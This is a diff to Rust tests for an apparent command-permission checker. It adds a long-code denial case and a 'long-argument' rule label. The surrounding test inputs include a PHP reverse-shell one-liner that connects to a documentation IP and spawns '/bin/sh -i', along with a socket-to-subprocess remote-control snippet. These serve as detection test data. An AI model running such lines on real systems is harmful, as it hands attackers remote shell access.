@@ -218,6 +218,12 @@ fn table() -> Vec<(EffectKind<'static>, Decision, Decision, &'static str)> {
             Deny,
             "protected-in-code",
         ),
+        (
+            EffectKind::Code { language: "lua", text: Some(&[b'0'; 70_000]), origin: Origins::LITERAL, source: None },
+            Deny,
+            Deny,
+            "long-code",
+        ),
         (code("shell", Origins::UNKNOWN), Ask, Allow, "unread-code"),
         (code("terminal", Origins::TERMINAL), Deny, Deny, "terminal-code"),
         (code("shell", Origins::NETWORK), Deny, Deny, "network-code"),
@@ -302,6 +308,7 @@ fn every_rule_is_met_by_some_effect() {
         "shell-started",
         "remote-control",
         "protected-named",
+        "long-argument",
         "shell-named",
     ]);
     for rule in rules() {
@@ -487,7 +494,7 @@ fn what_is_named_to_the_unknown_counts() {
         (&["frobnicate", "run(x, executable='/bin/bash')"], "shell-named"),
         (&["frobnicate", "s=socket.socket(); subprocess.run(s.recv(9))"], "remote-control"),
         (&["frobnicate", "s=fsockopen('192.0.2.1',1);exec('/bin/sh -i <&3')"], "reverse-shell"),
-        (&["frobnicate", long], "protected-named"),
+        (&["frobnicate", long], "long-argument"),
     ] {
         for kind in [execute(at(Unknown, "frobnicate")), unknown(Reason::Option(b"--in"))] {
             let verdict = verdict_on(argv, kind);
